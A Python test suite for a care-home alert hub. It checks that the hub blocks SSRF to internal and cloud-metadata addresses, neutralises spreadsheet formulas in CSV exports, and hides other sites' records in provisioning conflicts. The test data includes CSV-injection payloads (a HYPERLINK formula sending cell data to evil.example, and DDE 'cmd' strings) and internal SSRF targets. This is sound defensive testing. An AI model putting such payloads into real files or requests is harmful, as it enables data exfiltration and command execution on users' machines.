"""Issue 18: the hub sends nothing to internal addresses unless an administrator allows the
host; its CSV exports carry no spreadsheet formulas; a provisioning conflict names no record
of a site the caller may not see.

Real hubs with a real Mosquitto (tests/conftest.py), real local services on loopback (an HTTP
service on 127.0.0.1 stands for an allowed one, another on 127.0.0.2 for something internal),
the real push service of tests/support/webpush_receiver.py, and `carewatch report` itself.
"""

from __future__ import annotations

import asyncio
import copy
import csv
import io
import ipaddress
import json
import socket
import sqlite3
import threading
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
import requests

from hub.app import Hub
from hub.core.store import Store
from hub.notify.base import DeliveryResult
from hub.registry.models import Resident
from tests.conftest import ADMIN, INSTALLER, SMALL_SITE, SUPERVISOR, HubFactory, PublishBatch
from tests.hub.escalation.test_figures import cli, hand_built
from tests.hub.notify.test_apprise import notification
from tests.hub.notify.test_push import FALL, Ward
from tests.hub.notify.test_push import users as push_users
from tests.support.hub import fall, login
from tests.support.waiting import eventually
from tests.support.webpush_receiver import PushReceiver

PRIVATE = "points at a private address; an administrator can allow it with outbound.allowed_hosts"
APPRISE_AT_ONCE = {
    "defaults": {"steps": [{"after_min": 0, "notify": "family_contacts", "channels": ["apprise"]}]}
}
LOOPBACK_ALLOWED = {"allowed_hosts": ["127.0.0.1"]}


# --- local services -------------------------------------------------------------------------


@dataclass(frozen=True)
class Hit:
    method: str
    path: str


@dataclass
class Http:
    """An HTTP service on a loopback address: records every request and answers 200, or
    answers 307 to `redirect_to` (a redirect that keeps the method and the body)."""

    host: str
    redirect_to: str | None = None
    received: list[Hit] = field(default_factory=list)
    port: int = 0

    def __enter__(self) -> Http:
        kept, redirect_to = self.received, self.redirect_to

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                kept.append(Hit(self.command, self.path))
                self.send_response(307 if redirect_to else 200)
                if redirect_to:
                    self.send_header("Location", redirect_to)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = _answer

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer((self.host, 0), Handler)
        self.port = int(self._server.server_address[1])
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
async def push_service() -> AsyncIterator[PushReceiver]:
    async with PushReceiver() as running:
        yield running


def loopback_name() -> str:
    """A host name, not `localhost`, that this machine resolves to loopback: its own name or
    one of /etc/hosts' loopback aliases (Debian gives the host name 127.0.1.1)."""
    candidates = [socket.gethostname(), "ip6-localhost", "ip6-loopback", "localhost.localdomain"]
    try:
        hosts = Path("/etc/hosts").read_text(encoding="utf-8").splitlines()
    except OSError:
        hosts = []
    for line in hosts:
        address, *names = line.split("#", 1)[0].split() or [""]
        if address.startswith(("127.", "::1")):
            candidates += names
    for name in candidates:
        if name.lower() == "localhost":
            continue
        try:
            found = {info[4][0] for info in socket.getaddrinfo(name, None)}
        except OSError:
            continue
        if found and all(ipaddress.ip_address(str(a).split("%")[0]).is_loopback for a in found):
            return name
    raise AssertionError("no host name here resolves to loopback (see /etc/hosts)")


# --- helpers on a running hub -----------------------------------------------------------------


async def set_contacts(hub: Hub, who: tuple[str, str], *urls: str) -> httpx.Response:
    """Mary Jones's (E-0001) contacts, as a supervisor enters them: one per URL."""
    contacts = [
        {"name": f"Contact {n}", "relation": "family", "notify": [url]}
        for n, url in enumerate(urls, 1)
    ]
    async with httpx.AsyncClient(base_url=hub.url, timeout=30) as client:
        csrf = await login(client, who)
        return await client.patch(
            "/api/residents/E-0001", json={"contacts": contacts}, headers={"X-CSRF-Token": csrf}
        )


async def raise_fall(hub: Hub, publish_batch: PublishBatch) -> int:
    """A fall at Mary Jones's bed; the id of the alert it opens."""
    await publish_batch("sunrise", "gw-east", [fall("radar-101")], seq=1)

    async def opened() -> bool:
        return bool(await hub.alerts.records.page(("open",), 10))

    await eventually(opened)
    (alert,) = await hub.alerts.records.page(("open",), 10)
    return int(alert["id"])


async def attempts(hub: Hub, alert_id: int, channel: str, count: int) -> list[tuple[str, str]]:
    """(result, detail) of the alert's attempts on `channel`, once `count` have been made."""

    async def made() -> list[tuple[str, str]]:
        async with hub.store.db.execute(
            "SELECT result, detail FROM notifications WHERE alert_id = ? AND channel = ? "
            "AND result != 'pending' ORDER BY id",
            (alert_id, channel),
        ) as cur:
            return [(row[0], row[1]) for row in await cur.fetchall()]

    async def enough() -> bool:
        return len(await made()) >= count

    await eventually(enough)
    return await made()


# --- (a) outbound requests ------------------------------------------------------------------


async def test_apprise_urls_at_internal_addresses_are_refused_when_saved(
    hub_factory: HubFactory,
) -> None:
    hub = await hub_factory()
    name = loopback_name()
    urls = {
        "loopback": "json://127.0.0.1:8080/hook",
        "localhost": "json://localhost:6379/",
        "cloud metadata": "json://169.254.169.254/latest/meta-data",
        "private": "json://10.1.2.3:22/",
        "IPv6 loopback": "json://[::1]:8080/hook",
        "a name that resolves to loopback": f"ntfy://{name}:8080/family",
        "an SMTP server": "mailto://hub:pw@example.org?smtp=192.168.1.10&to=a@example.org",
    }

    refused = {what: await set_contacts(hub, SUPERVISOR, url) for what, url in urls.items()}

    for what, response in refused.items():
        assert response.status_code == 422, (what, response.text)
        detail = response.json()["detail"]
        assert detail.startswith("resident E-0001: contacts.0.notify: URL 1: "), (what, detail)
        assert detail.endswith(PRIVATE), (what, detail)
        assert "pw" not in detail and "/hook" not in detail  # the URL's secrets are not shown
    assert "(host 169.254.169.254, link-local)" in refused["cloud metadata"].json()["detail"]
    assert f"host {name}, which resolves to a loopback address" in str(
        refused["a name that resolves to loopback"].json()["detail"]
    )
    mary = hub.registry.data.get(Resident, ("E-0001",))
    assert mary.contacts == []

    rows = "code,name,contact1_name,contact1_relation,contact1_notify\n"
    rows += "E-0100,Ada Stone,Ben Stone,family,ntfys://ntfy.sh/stone json://10.0.0.7:9200/\n"
    async with httpx.AsyncClient(base_url=hub.url, timeout=30) as client:
        csrf = await login(client, SUPERVISOR)
        imported = await client.post(
            "/api/registry/import/residents", content=rows, headers={"X-CSRF-Token": csrf}
        )
    assert imported.status_code == 422, imported.text
    assert imported.json()["detail"] == (
        f"resident E-0100: contacts.0.notify: URL 2: json://… (host 10.0.0.7, private) {PRIVATE}"
    )
    assert hub.registry.data.find(Resident, ("E-0100",)) is None


@pytest.mark.parametrize(
    ("address", "kind"),
    [
        ("127.0.0.1", "loopback"),
        ("169.254.169.254", "link-local"),
        ("10.1.2.3", "private"),
        ("172.16.0.1", "private"),
        ("192.168.1.1", "private"),
        ("100.64.0.1", "non-public"),
        ("224.0.0.251", "multicast"),
        ("0.0.0.0", "unspecified"),
        ("::1", "loopback"),
        ("::", "unspecified"),
        ("fe80::1", "link-local"),
        ("fd00::1", "unique-local"),
        ("ff02::1", "multicast"),
        ("::ffff:127.0.0.1", "loopback"),  # IPv4-mapped
        ("::ffff:169.254.169.254", "link-local"),
        ("2002:a00:1::1", "private"),  # 6to4 around 10.0.0.1
        ("64:ff9b::7f00:1", "loopback"),  # NAT64 around 127.0.0.1
        ("8.8.8.8", None),
        ("2606:4700:4700::1111", None),
        ("64:ff9b::808:808", None),  # NAT64 around 8.8.8.8: public
    ],
)
def test_internal_addresses_are_recognised(address: str, kind: str | None) -> None:
    from hub.core.outbound import address_kind

    assert address_kind(ipaddress.ip_address(address)) == kind


async def test_an_allowed_internal_host_is_accepted_and_reached(
    hub_factory: HubFactory, publish_batch: PublishBatch
) -> None:
    with Http("127.0.0.1") as service:
        hub = await hub_factory(outbound=LOOPBACK_ALLOWED, escalation=APPRISE_AT_ONCE)
        saved = await set_contacts(hub, SUPERVISOR, f"json://127.0.0.1:{service.port}/anna")
        assert saved.status_code == 200, saved.text
        alert_id = await raise_fall(hub, publish_batch)
        tried = await attempts(hub, alert_id, "apprise", 1)

    assert tried == [("delivered", "json ok")]
    assert service.received == [Hit("POST", "/anna")]


@pytest.mark.sqlite_only  # writes the SQLite file as an older hub left it
async def test_a_url_an_older_hub_stored_is_refused_when_used_and_nothing_is_sent(
    hub_factory: HubFactory, publish_batch: PublishBatch, tmp_path: Path
) -> None:
    name = loopback_name()
    with Http("127.0.0.1") as service:
        older = await hub_factory(escalation=APPRISE_AT_ONCE)
        await older.stop()
        stored = [
            {"name": "Anna Jones", "relation": "family", "notify": [f"json://127.0.0.1:{service.port}/a"]},
            {"name": "Ben Jones", "relation": "family", "notify": [f"json://{name}:{service.port}/b"]},
        ]  # fmt: skip
        with sqlite3.connect(tmp_path / "hub.db") as db:  # as an older hub wrote it
            db.execute(
                "UPDATE registry_resident SET contacts = ? WHERE code = 'E-0001'",
                (json.dumps(stored),),
            )
        hub = await hub_factory(escalation=APPRISE_AT_ONCE)
        alert_id = await raise_fall(hub, publish_batch)
        tried = await attempts(hub, alert_id, "apprise", 2)

    assert tried == [
        ("failed", "json refused (host 127.0.0.1, loopback)"),
        ("failed", f"json refused (host {name}, which resolves to a loopback address)"),
    ]
    assert service.received == []


async def test_a_redirect_to_an_internal_address_is_not_followed() -> None:
    from hub.core.outbound import OutboundPolicy
    from hub.notify.apprise_channel import AppriseNotifier

    allowed = OutboundPolicy.of(["127.0.0.1"])
    with Http("127.0.0.2") as internal:
        target = f"http://127.0.0.2:{internal.port}/latest/meta-data"
        with Http("127.0.0.1", redirect_to=target) as hop:
            # The URL asks Apprise to follow redirects; the hub does not let it.
            url = f"json://127.0.0.1:{hop.port}/hook?redirect=yes"
            sent = await AppriseNotifier(outbound=allowed).send(notification(url))

            def guarded() -> list[str]:
                """A client that follows redirects itself (as some Apprise plugins do)."""
                with allowed.guard(["127.0.0.1"]) as guard:
                    with pytest.raises(requests.ConnectionError):
                        requests.post(f"http://127.0.0.1:{hop.port}/again", json={}, timeout=5)
                return guard.refused

            refused = await asyncio.to_thread(guarded)
            assert internal.received == []
            # Outside a guard the same client does follow it: the redirect is real.
            await asyncio.to_thread(requests.post, f"http://127.0.0.1:{hop.port}/x", timeout=5)

    assert sent == DeliveryResult(False, "json failed")
    assert refused == ["a loopback address"]
    assert [hit.path for hit in hop.received] == ["/hook", "/again", "/x"]
    assert internal.received == [Hit("POST", "/latest/meta-data")]


@pytest.mark.sqlite_only  # writes the SQLite file as an older hub left it
async def test_push_to_an_internal_endpoint_is_refused_unless_allowed(
    hub_factory: HubFactory,
    publish_batch: PublishBatch,
    push_service: PushReceiver,
    tmp_path: Path,
) -> None:
    settings: dict[str, Any] = {
        "users": push_users(),
        "escalation": {"defaults": {"steps": [{"after_min": 0, "notify": "user:anna"}]}},
        "push": {"allowed_hosts": ["127.0.0.1"]},  # a push service it may use, but internal
    }
    ward = Ward(await hub_factory(**settings), publish_batch, push_service)
    _, _, subscription = push_service.new_subscription()
    async with ward.session("anna") as (client, csrf):
        refused = await client.post(
            "/api/push/subscriptions", json=subscription, headers={"X-CSRF-Token": csrf}
        )
    assert refused.status_code == 422, refused.text
    assert refused.json()["detail"] == (f"the endpoint (host 127.0.0.1, loopback) {PRIVATE}")
    await ward.hub.stop()
    with sqlite3.connect(tmp_path / "hub.db") as db:  # as an older hub kept it
        db.execute(
            "INSERT INTO push_subscriptions (username, endpoint, p256dh, auth, created_at) "
            "VALUES ('anna', ?, ?, ?, ?)",
            (
                subscription["endpoint"],
                subscription["keys"]["p256dh"],
                subscription["keys"]["auth"],
                time.time(),
            ),
        )
    ward = Ward(await hub_factory(**settings), publish_batch, push_service)

    (attempt,) = await ward.push_attempts(await ward.trigger(FALL))

    assert (attempt["result"], attempt["detail"]) == (
        "failed",
        "0 of 1 subscriptions; failed: refused (host 127.0.0.1, loopback)",
    )
    assert (push_service.delivered, push_service.refused) == ([], [])


# --- (b) CSV exports ------------------------------------------------------------------------

FORMULAS = {
    "E-0001": '=HYPERLINK("https://evil.example/?"&A1,"Mary")',
    "E-0002": "-2+3+cmd|' /C calc'!A0",
    "r101": "@SUM(1+1)",
    "r102": "+44 7700 900123",
}


def test_write_csv_neutralises_formulas_and_keeps_numbers() -> None:
    from hub.escalation.figures import write_csv

    out = io.StringIO()
    row = {
        "name": "=1+2",
        "at": "@A1",
        "plus": "+1",
        "minus": "-1",
        "tab": "\t=1",
        "cr": "\r=1",
        "plain": "Mary Jones",
        "rssi": -70,
        "share": -0.5,
        "none": None,
    }
    write_csv([row], list(row), out)

    (cells,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert cells == {
        "name": "'=1+2",
        "at": "'@A1",
        "plus": "'+1",
        "minus": "'-1",
        "tab": "'\t=1",
        "cr": "'\r=1",
        "plain": "Mary Jones",
        "rssi": "-70",
        "share": "-0.5",
        "none": "",
    }


async def test_supervisor_exports_neutralise_formulas_in_names(
    hub_factory: HubFactory, publish_batch: PublishBatch
) -> None:
    site = copy.deepcopy(SMALL_SITE)
    for room in site["zones"][0]["rooms"]:
        room["name"] = FORMULAS[room["id"]]
        resident = room["beds"][0]["resident"]
        resident["name"] = FORMULAS[resident["code"]]
    hub = await hub_factory(sites=[site], watch={"defaults": {"timezone": "UTC"}})
    now = time.time()
    items = [
        fall("radar-101"),
        fall("radar-102"),
        {"dev": "button-101", "at": now, "reading": "battery", "value": -5},
    ]
    await publish_batch("sunrise", "gw-east", items, seq=1)

    async def both_open() -> bool:
        return len(await hub.alerts.records.page(("open",), 10)) >= 2

    await eventually(both_open)
    async with httpx.AsyncClient(base_url=hub.url, timeout=30) as client:
        await login(client, SUPERVISOR)

        async def low_battery() -> bool:
            view = (await client.get("/api/supervisor")).json()
            return any(d["device"] == "button-101" for d in view["devices"])

        await eventually(low_battery)
        alerts = (await client.get("/api/supervisor/export/alerts.csv")).text
        devices = (await client.get("/api/supervisor/export/devices.csv")).text

    falls = {r["resident_code"]: r for r in csv.DictReader(io.StringIO(alerts))}
    assert falls["E-0001"]["resident_name"] == "'" + FORMULAS["E-0001"]
    assert falls["E-0002"]["resident_name"] == "'" + FORMULAS["E-0002"]
    assert falls["E-0001"]["room_name"] == "'" + FORMULAS["r101"]
    assert falls["E-0002"]["room_name"] == "'" + FORMULAS["r102"]
    assert all(r["id"].isdigit() for r in falls.values())
    (button,) = [r for r in csv.DictReader(io.StringIO(devices)) if r["device"] == "button-101"]
    assert button["battery"] in ("-5", "-5.0")  # a number stays a number
    assert button["room_name"] == "'" + FORMULAS["r101"]


async def test_the_report_csv_neutralises_formulas_in_shift_names(tmp_path: Path) -> None:
    store = await Store.open(tmp_path / "hub.db")
    await hand_built(store)
    await store.close()
    day, night = "=cmd|' /C calc'!A0", "-night+1"
    shifts = [
        {"name": day, "start": "07:00", "end": "19:00"},
        {"name": night, "start": "19:00", "end": "07:00"},
    ]
    config = tmp_path / "hub.yaml"
    config.write_text(
        json.dumps(
            {
                "database": str(tmp_path / "hub.db"),
                "web": {"secret_key": "s" * 40},
                "roster": {"sites": {"sunrise": {"shifts": shifts}}},
                "watch": {"defaults": {"timezone": "UTC"}},
            }
        )
    )
    window = ("--since", "2026-11-21T12:00", "--until", "2026-11-22T12:00:00+00:00")

    status, out, err = await cli("--config", str(config), *window, "--format", "csv")

    assert status == 0, err
    rows = {r["group"]: r for r in csv.DictReader(io.StringIO(out)) if r["by"] == "shift"}
    assert set(rows) == {"'" + day, "'" + night}
    assert (rows["'" + night]["alerts"], rows["'" + day]["alerts"]) == ("10", "3")


# --- (c) conflicts that would name another site's records -------------------------------------

EAST_HOME: dict[str, Any] = {
    "id": "east-home",
    "name": "East Home",
    "gateways": ["gw-1"],
    "zones": [
        {
            "id": "flats",
            "name": "Secret flats",
            "kind": "family",
            "rooms": [{"id": "f1", "name": "Flat 1", "beds": [{"code": "EH-1"}]}],
        }
    ],
}
MAC = "B4:35:22:F5:3D:A4"
KEY = "90bffd73cb6b26ef58a7a8eba9232036"


async def provision_button(
    client: httpx.AsyncClient, csrf: str, site: str, gateway: str, device: str, bed: str
) -> httpx.Response:
    return await client.post(
        "/api/provision/devices",
        json=button(site, gateway, device, bed),
        headers={"X-CSRF-Token": csrf},
    )


def button(site: str, gateway: str, device: str, bed: str) -> dict[str, Any]:
    return {"site": site, "gateway": gateway, "id": device, "profile": "shelly-blu-button1",
            "mac": MAC, "key": KEY, "bed": bed}  # fmt: skip


async def test_a_mac_in_use_at_another_site_is_refused_without_naming_its_device(
    hub_factory: HubFactory,
) -> None:
    hub = await hub_factory(sites=[SMALL_SITE, EAST_HOME])
    async with httpx.AsyncClient(base_url=hub.url, timeout=30) as admin:
        csrf = await login(admin, ADMIN)
        placed = await provision_button(admin, csrf, "east-home", "gw-1", "btn-secret-east", "EH-1")
        assert placed.status_code == 201, placed.text
    async with httpx.AsyncClient(base_url=hub.url, timeout=30) as installer:
        csrf = await login(installer, INSTALLER)  # Sunrise only
        clash = await provision_button(
            installer, csrf, "sunrise", "gw-east", "button-102", "SR-E-102"
        )
        spy = await installer.post(
            "/api/registry/import/beds",
            content="site,zone,room,bed,zone_name\neast-home,flats,f1,EH-9,Spy\n",
            headers={"X-CSRF-Token": csrf},
        )
    async with httpx.AsyncClient(base_url=hub.url, timeout=30) as admin:
        csrf = await login(admin, ADMIN)
        own = await provision_button(admin, csrf, "sunrise", "gw-east", "button-102", "SR-E-102")

    assert clash.status_code == 409, clash.text
    assert clash.json()["detail"] == (
        f"MAC {MAC} is already registered elsewhere; ask an administrator"
    )
    assert spy.status_code == 404, spy.text
    for refusal in (clash.text, spy.text):
        assert "btn-secret-east" not in refusal and "Secret flats" not in refusal
    # Someone who may see the other device is told which it is.
    assert own.status_code == 409
    assert own.json()["detail"] == f"MAC {MAC} is already device 'btn-secret-east'"
